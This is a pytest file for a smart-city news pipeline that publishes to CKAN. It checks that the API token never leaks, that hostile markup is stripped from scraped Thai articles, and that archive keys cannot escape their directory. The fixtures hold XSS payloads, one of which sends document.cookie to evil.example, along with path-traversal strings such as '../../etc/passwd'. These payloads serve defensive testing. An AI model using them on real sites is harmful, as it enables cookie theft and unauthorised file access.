"""Secrets and hostile text.

* ``test_the_token_is_nowhere_after_a_published_run`` (integration): the whole pipeline on the demo
  snapshot, published to the local CKAN under a throw-away prefix, every logger at DEBUG (urllib3,
  requests, ckanapi included) into a log file and pytest's capture; then the CKAN token is looked
  for in every log file, every file of the data directory (run directory: stage outputs, the
  stage returns printed as JSON, validation reports, Data Docs, published CSV/Parquet/zip; raw
  archive; state), inside gzip, zip and Parquet, in the captured output and in the published
  datasets' metadata read back from CKAN: 0 hits.  The scanner is checked on planted tokens first.
* Markup in a page's text (a ``<script>`` element in a title, escaped ``&lt;script&gt;`` in a body)
  never reaches a published CSV cell.
* Archive keys cannot name a file outside the archive.
"""

from __future__ import annotations

import gzip
import io
import json
import logging
import uuid
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from smartcity.sources.state import Archive

# --------------------------------------------------------------------------- the scanner


def readable_texts(path: Path) -> list[bytes]:
    """The bytes of ``path`` as a reader would see them: gzip and zip members unpacked, Parquet
    read back (its pages are compressed), everything else as stored."""
    raw = path.read_bytes()
    out = [raw]
    if raw[:2] == b"\x1f\x8b":
        out.append(gzip.decompress(raw))
    elif zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            out += [archive.read(name) for name in archive.namelist()]
    elif raw[:4] == b"PAR1":
        frame = pd.read_parquet(io.BytesIO(raw))
        out.append(frame.to_csv(index=False).encode())
        out.append(json.dumps(frame.columns.tolist()).encode())
    return out


def hits(token: str, root: Path) -> dict[str, int]:
    """Files under ``root`` holding ``token`` (or its signature: the part after the last dot)."""
    needles = {token.encode(), token.rsplit(".", 1)[-1].encode()}
    found = {}
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        n = sum(text.count(needle) for text in readable_texts(path) for needle in needles)
        if n:
            found[str(path.relative_to(root))] = n
    return found


def test_the_scanner_finds_a_planted_token(tmp_path):
    token = "eyJhbGciOi.planted." + uuid.uuid4().hex
    (tmp_path / "plain.log").write_text(f"Authorization: {token}\n")
    (tmp_path / "page.html.gz").write_bytes(gzip.compress(token.encode()))
    with zipfile.ZipFile(tmp_path / "docs.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", f"<p>{token}</p>")
    pd.DataFrame({"title": [token]}).to_parquet(tmp_path / "rows.parquet", compression="zstd")
    (tmp_path / "clean.txt").write_text("nothing here")
    assert set(hits(token, tmp_path)) == {"plain.log", "page.html.gz", "docs.zip", "rows.parquet"}


# --------------------------------------------------------------------------- the published run


@pytest.mark.integration
def test_the_token_is_nowhere_after_a_published_run(tmp_path, monkeypatch, capsys, caplog,
                                                   ckan_env, ckan_client):
    from smartcity import pipeline
    from smartcity.publish import catalog
    from smartcity.publish.publisher import purge_published

    token = ckan_env["token"]
    assert len(token) > 20
    prefix = f"sec{uuid.uuid4().hex[:8]}"
    data_dir, logs = tmp_path / "data", tmp_path / "logs"
    logs.mkdir()
    monkeypatch.setenv("SMARTCITY_DATA_DIR", str(data_dir))
    monkeypatch.setenv("SMARTCITY_DATASET_PREFIX", prefix)
    monkeypatch.setenv("SMARTCITY_CKAN_ORG", f"{prefix}-org")
    monkeypatch.setenv("CKAN_URL", ckan_env["url"])
    monkeypatch.setenv("CKAN_API_TOKEN", token)

    root = logging.getLogger()
    handler = logging.FileHandler(logs / "pipeline.log", encoding="utf-8")
    handler.setLevel(logging.DEBUG)
    handler.setFormatter(logging.Formatter("%(asctime)s %(levelname)s %(name)s: %(message)s %(args)s"))
    root.addHandler(handler)
    caplog.set_level(logging.DEBUG)
    for name in ("urllib3", "requests", "ckanapi", "smartcity"):
        logging.getLogger(name).setLevel(logging.DEBUG)
    try:
        assert pipeline.main(["--sources", "demo", "--run", "secrets"]) == 0
    finally:
        root.removeHandler(handler)
        handler.close()
        out = capsys.readouterr()
        published = []
        try:
            for key in catalog.DATASETS:
                published.append(ckan_client.action.package_show(id=f"demo-{prefix}-{key}"))
        finally:
            purge_published(ckan_client, prefix, f"{prefix}-org")

    summary = json.loads(out.out)  # the stage returns (what Airflow keeps as XCom)
    run = Path(summary["run_dir"])
    assert run.is_relative_to(data_dir)
    assert [summary[f"publish_{k}"]["dataset"] for k in catalog.DATASETS] == \
        [f"demo-{prefix}-{k}" for k in catalog.DATASETS]  # the demo snapshot's datasets say so
    assert len(published) == len(catalog.DATASETS)
    assert list((run / "publish").rglob("*.csv")) and list(run.glob("validation_*.json"))
    debug_lines = (logs / "pipeline.log").read_text(encoding="utf-8")
    assert "DEBUG urllib3" in debug_lines and "/api/action/package_" in debug_lines  # DEBUG was on

    assert hits(token, logs) == {}
    assert hits(token, data_dir) == {}
    signature = token.rsplit(".", 1)[-1]
    captured = out.out + out.err + caplog.text + "".join(repr(r.args) for r in caplog.records)
    assert token not in captured and signature not in captured
    metadata = json.dumps(published, ensure_ascii=False)
    assert token not in metadata and signature not in metadata


# --------------------------------------------------------------------------- markup in page text


HOSTILE_PAGE = """<html><head><meta charset="utf-8"><title>t</title></head><body>
<h1 class="article-title">เมืองอัจฉริยะ 36 เมือง<script>alert("title")</script>
&lt;b onmouseover=alert(2)&gt;ใหม่&lt;/b&gt;</h1>
<span class="article-date">19 พฤศจิกายน 2564</span>
<div class="article-content">
<p>สำนักงานส่งเสริมเศรษฐกิจดิจิทัล (ดีป้า) ประกาศเมืองอัจฉริยะ 36 เมือง ใน 25 จังหวัด</p>
<script>document.location='http://evil.example/'+document.cookie</script>
<p>&lt;script&gt;alert(1)&lt;/script&gt;ข้อความต่อ &lt;img src=x onerror=alert(3)&gt; และ 5 &lt; 7 &gt; 3</p>
<style>p { color: red }</style><!-- a comment -->
<p>&lt;iframe src="http://evil.example/"&gt;&lt;/iframe&gt;ย่อหน้าสุดท้ายของข่าวนี้ยาวพอให้เป็นเนื้อหา</p>
</div></body></html>"""
MARKUP = ("<script", "alert(", "onerror", "onmouseover", "<img", "<iframe", "<b", "document.cookie",
          "color: red", "<!--")


def test_markup_in_page_text_never_reaches_a_published_cell(tmp_path):
    from smartcity import records
    from smartcity.publish import catalog, files
    from smartcity.sources.parse import parse_page
    from smartcity.sources.state import PageState

    page = PageState(url="https://www.depa.or.th/th/article-view/hostile", source="depa", kind="article",
                     site="depa", fetched_at="2026-01-01T00:00:00+00:00", content_hash="0" * 64)
    article, _events = parse_page(HOSTILE_PAGE.encode(), page)
    for text in (article.title, article.body):
        assert not [m for m in MARKUP if m in text], text
    assert article.title.startswith("เมืองอัจฉริยะ 36 เมือง") and "ใหม่" in article.title
    assert "ข้อความต่อ" in article.body and "5 < 7 > 3" in article.body  # text kept, not tags

    table = catalog.spec("articles").main
    # the published row: the page's fields but its body, which goes out as its programme passages
    published = records.columns(records.PublishedArticle)
    row = {k: v for k, v in records.as_dict(article).items() if k in published}
    frame = pd.DataFrame([{**row, "passages": article.body, "passage_count": 1}])
    path = files.write_csv(files.normalise(frame, table), table, tmp_path / "articles.csv")
    cells = path.read_text(encoding="utf-8-sig")
    assert "เมืองอัจฉริยะ 36 เมือง" in cells
    assert not [m for m in MARKUP if m in cells]


# --------------------------------------------------------------------------- archive file names


@pytest.mark.parametrize(
    "key",
    ["../../etc/passwd", "/etc/passwd", "ab/../../x.html.gz", "ab/ab" + "0" * 62 + "/../../x.gz",
     "..\\..\\x.html.gz", "ab/cd" + "0" * 62 + ".html.gz", "ab/ab" + "0" * 62 + ".html.gz\x00.txt",
     "https://evil.example/a/../../b", "", "ab/ab0.html.gz"],
)
def test_an_archive_key_cannot_name_a_file_outside_the_archive(tmp_path, key):
    archive = Archive(tmp_path / "archive")
    with pytest.raises(ValueError):
        archive.path(key)
    with pytest.raises(ValueError):
        archive.get(key)
    assert key not in archive


@pytest.mark.parametrize(
    ("digest", "suffix"),
    [("../../../../tmp/x", ".html"), ("0" * 64, "/../../x"), ("0" * 64, ".html/../../x"),
     ("ZZ" + "0" * 62, ".html"), ("0" * 64 + "/x", ".html")],
)
def test_a_hostile_digest_or_suffix_is_refused(tmp_path, digest, suffix):
    archive = Archive(tmp_path / "archive")
    with pytest.raises(ValueError):
        archive.put(b"page", suffix, digest=digest)
    assert not any(p.is_file() for p in tmp_path.rglob("*"))


def test_every_archive_path_stays_inside_the_archive(tmp_path):
    archive = Archive(tmp_path / "archive")
    for content in (b"", b"<p>x</p>", "../../หน้า".encode(), b"\x00" * 10):
        key = archive.put(content)
        assert archive.path(key).resolve().is_relative_to((tmp_path / "archive").resolve())
        assert archive.get(key) == content
    assert archive.put(b"x", ".txt").endswith(".txt.gz")
